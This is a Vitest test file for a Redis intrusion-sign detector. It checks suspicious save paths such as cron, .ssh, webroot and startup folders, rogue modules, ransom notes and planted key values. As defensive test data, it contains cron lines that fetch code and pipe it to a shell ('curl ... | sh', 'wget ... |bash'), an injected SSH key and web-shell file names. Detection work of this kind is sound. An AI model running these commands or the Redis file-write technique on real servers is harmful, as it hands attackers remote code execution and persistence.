import { describe, expect, it } from "vitest";
import {
  intrusionSigns,
  isPlanted,
  isRansom,
  unknownModules,
} from "../../../../src/connectors/redis/intrusion-signs.ts";

describe("where a server is told to save", () => {
  it.each([
    ["/var/spool/cron", "dump.rdb"],
    ["/var/spool/cron/crontabs/", "dump.rdb"],
    ["/etc/cron.d", "dump.rdb"],
    ["/srv/lab/cron.d", "root"],
    ["/root/.ssh", "dump.rdb"],
    ["/home/redis/.ssh/", "dump.rdb"],
    ["/data", "authorized_keys"],
    ["/tmp", "exp.so"],
    ["/var/lib/redis", "red2.so"],
    ["/var/www/html", "dump.rdb"],
    ["/data", "shell.php"],
    ["/etc", "dump.rdb"],
    ["/etc/init.d", "dump.rdb"],
    ["/usr/lib/systemd/system", "dump.rdb"],
    ["C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup", "dump.rdb"],
  ])("%s/%s is a sign", (dir, dbfilename) => {
    expect(intrusionSigns({ dir, dbfilename }).length).toBeGreaterThan(0);
  });

  it.each([
    ["/var/lib/redis", "dump.rdb"],
    ["/data", "dump.rdb"],
    ["/bitnami/redis/data", "dump-6379.rdb"],
    ["/srv/cron-service/redis", "cron.rdb"],
    ["/home/deploy/www-data/redis", "redis.rdb"],
    ["/etc/redis", "dump.rdb"],
    ["/opt/www/redis", "root.rdb"],
    ["/", "dump.rdb"],
    ["C:\\Program Files\\Redis", "dump.rdb"],
    ["/var/lib/sshd-cache", "backup.db"],
  ])("%s/%s is none", (dir, dbfilename) => {
    expect(intrusionSigns({ dir, dbfilename })).toEqual([]);
  });
});

it("modules: one that runs commands, or from a folder anybody may write to", () => {
  expect(intrusionSigns({ modules: [{ name: "system", path: "" }] })).toEqual(["a module system"]);
  expect(intrusionSigns({ modules: [{ name: "abc", path: "/tmp/x.so" }] })).toHaveLength(1);
  const known = ["ReJSON", "search", "timeseries", "bf", "vectorset"].map((name) => ({
    name,
    path: `/usr/lib/redis/modules/${name}.so`,
  }));
  expect(intrusionSigns({ modules: known })).toEqual([]);
});

it("modules: an unknown one is a sign only where it came with the data, and is named otherwise", () => {
  const own = { name: "shopcart", path: "/opt/shop/cart.so" };
  expect(intrusionSigns({ dir: "/data", modules: [own] })).toEqual([]);
  expect(unknownModules({ modules: [own, { name: "ReJSON", path: "/data/rejson.so" }] })).toEqual([own]);
  expect(intrusionSigns({ dir: "/data", modules: [{ name: "ReJSON", path: "/data/rejson.so" }] })).toEqual(
    [],
  );
  expect(intrusionSigns({ dir: "/data/", modules: [{ name: "kx", path: "/data/kx.so" }] })).toHaveLength(1);
});

describe("a demand for ransom", () => {
  it.each([
    "All your data is backed up. You must pay 0.01 BTC to bc1q… to recover it.",
    "your DB has been encrypted, contact abc.onion",
  ])("%j is one", (value) => {
    expect(isRansom(value)).toBe(true);
    expect(intrusionSigns({ ransom: ["README"] })).toEqual(["README holds a demand for ransom"]);
  });
  it.each(["BTC/EUR 93211.20", "Press R to recover the cart", "Shop cache, see the wiki", ""])(
    "%j is none",
    (value) => expect(isRansom(value)).toBe(false),
  );
});

describe("values of keys", () => {
  it.each([
    "\n*/2 * * * * root curl -fsSL http://192.0.2.1/a | sh\n",
    "\n\n\n*/1 * * * * /bin/true\n\n",
    "\n@reboot root /tmp/x\n",
    "\n\nssh-rsa AAAAB3Nza user@host\n\n",
    "wget -q -O- http://192.0.2.1/x|bash",
  ])("%j is planted", (value) => expect(isPlanted(value)).toBe(true));

  it.each([
    "2026-01-01 10:00",
    "1 2 3 4 5 6",
    '{"cron":"*/5"}',
    "curl is a program",
    "",
    "a * b * c * d * e",
  ])("%j is not", (value) => expect(isPlanted(value)).toBe(false));
});
